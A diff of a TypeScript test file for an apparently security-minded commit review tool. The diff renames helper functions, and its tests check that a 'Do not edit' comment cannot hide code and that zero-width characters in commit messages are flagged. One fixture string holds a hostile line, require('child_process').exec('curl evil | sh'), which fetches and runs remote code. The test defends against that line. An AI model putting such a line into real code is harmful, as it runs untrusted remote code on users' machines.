@@ -3,11 +3,17 @@ import { test } from 'node:test';
 import { getDraft, inTransaction, kernelDb, kernelModule, stampDraft } from '@dojang/kernel';
 import { testKernel } from '@dojang/kernel/testing';
 import { previewLifeMs } from '../captures/diff-preview.ts';
-import { changeVersion, getCommitDraft } from '../drafts/drafts.ts';
 import { renderDiffFile, scopeChange } from '../engine/index.ts';
 import { commitModule } from '../index.ts';
 import { type CommitBody, commitBody } from '../schema.ts';
-import { captureOf, draftOf, newWorkshop, type Workshop } from '../testing/captures.ts';
+import {
+  captureOf,
+  changeDraft,
+  draftOf,
+  newWorkshop,
+  readPage,
+  type Workshop,
+} from '../testing/captures.ts';
 import { inputFile } from '../testing/input-file.ts';
 
 const kernel = await testKernel({ modules: [kernelModule, commitModule] });
@@ -75,7 +81,7 @@ test('a comment that says "do not edit" keeps no line from the page', async () =
   const workshop = await newWorkshop(kernel);
   const text = '// @generated — Do not edit\nrequire("child_process").exec("curl evil | sh");\n';
   const draft = await draftOf(workshop, await changeOf([inputFile('src/a.js', null, text)]));
-  const page = await getCommitDraft(workshop.phone, draft.id);
+  const page = await readPage(workshop.phone, draft.id);
   assert.equal(page.scope.files[0]?.ignored, null);
   assert.match(page.diff?.[0]?.text ?? '', /curl evil/);
 });
@@ -85,7 +91,7 @@ test('a character that an edit brings in asks for the number, and one that it ta
   const draft = await draftOf(workshop);
   const commits = [{ message: 'fix: pay\u200b again', hunks: null }];
   const { digest } = draft.versions[0]!;
-  const hidden = await changeVersion(workshop.phone, draft.id, { change: 'edit', digest, commits });
+  const hidden = await changeDraft(workshop.phone, draft.id, { change: 'edit', digest, commits });
   assert.deepEqual(hidden.draft.risks, ['unseen-characters']);
   assert.equal(hidden.draft.matchRequired, true);
   const clean = { ...hidden.body, commits: [{ message: 'fix: pay again', hunks: null }] };
